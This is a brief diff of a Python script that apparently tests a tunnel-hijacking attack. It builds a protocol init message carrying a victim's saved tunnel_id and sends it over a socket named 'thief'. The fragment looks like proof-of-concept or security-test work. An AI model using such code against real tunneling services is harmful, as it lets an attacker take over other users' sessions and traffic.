@@ -132,7 +132,7 @@ def main():
         token, subdomain = b"", b""
         init = (struct.pack(">HB", PROTOCOL_VERSION, 2) + bytes([len(token)]) + token
                 + bytes([len(subdomain)]) + subdomain + b"\x01"
-                + struct.pack(">Q", victim["tunnel_id"]) + os.urandom(32))
+                + struct.pack(">Q", env.saved_tunnel(victim["domain"])["tunnel_id"]) + os.urandom(32))
         thief.sendall(header(len(init), 1) + init)
         reply = thief.recv(4096)
         length, kind = struct.unpack(">IB", reply[:5])
